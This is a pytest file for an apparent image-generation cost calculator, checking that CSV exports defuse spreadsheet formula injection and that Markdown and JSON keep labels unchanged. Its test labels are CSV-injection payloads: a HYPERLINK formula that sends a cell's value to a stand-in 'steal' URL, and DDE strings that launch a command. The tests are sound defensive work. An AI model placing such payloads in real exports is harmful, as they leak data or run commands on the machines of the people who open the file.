"""CSV for spreadsheets: a label that would start a formula reads back as text, numbers stay
numbers, and the Markdown and JSON exports keep every label exactly as typed."""

from __future__ import annotations

import csv
import io
import json
from decimal import Decimal

import pytest

from imagine_calc.core.catalog.loader import load_catalog
from imagine_calc.core.estimates.estimate import Estimate, GenerationItem, price_estimate
from imagine_calc.core.estimates.estimate_export import to_csv, to_json, to_markdown

CATALOG = load_catalog()
REQUEST_LABELS = [
    '=HYPERLINK("http://example.com/steal?"&A1, "Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "Hero images",  # an ordinary label is left alone
]


@pytest.fixture
def priced() -> object:
    from imagine_calc.core.pricing.quotes import GenerationRequest

    request = GenerationRequest("nano-banana-2", "1K", "1:1", 2, False)
    items = tuple(GenerationItem(request, 3, label) for label in REQUEST_LABELS)
    return price_estimate(CATALOG, Estimate(items, "Client"))


def test_a_label_that_would_start_a_formula_reads_back_as_text(priced: object) -> None:
    rows = list(csv.reader(io.StringIO(to_csv(priced))))  # type: ignore[arg-type]
    header, lines = rows[0], rows[1:-1]
    assert header[:5] == ["label", "what", "count", "credits_per_run", "credits"]
    for label, row in zip(REQUEST_LABELS, lines, strict=True):
        if label[0] in "=+-@\t\r":
            assert row[0] == "'" + label  # the apostrophe makes it text
        else:
            assert row[0] == label
        assert not row[1].startswith(("=", "+", "-", "@", "\t", "\r"))
        # numbers stay numbers: a spreadsheet sums them
        assert int(row[2]) == 3 and Decimal(row[3]) == 98 and Decimal(row[4]) == 294
    total = rows[-1]
    assert total[0] == "Total" and Decimal(total[4]) == 294 * len(REQUEST_LABELS)


def test_markdown_and_json_keep_labels_exactly(priced: object) -> None:
    report = json.loads(to_json(priced, CATALOG))  # type: ignore[arg-type]
    assert [item["label"] for item in report["items"]] == REQUEST_LABELS
    markdown = to_markdown(priced, CATALOG)  # type: ignore[arg-type]
    assert "+cmd" in markdown and "'+cmd" not in markdown
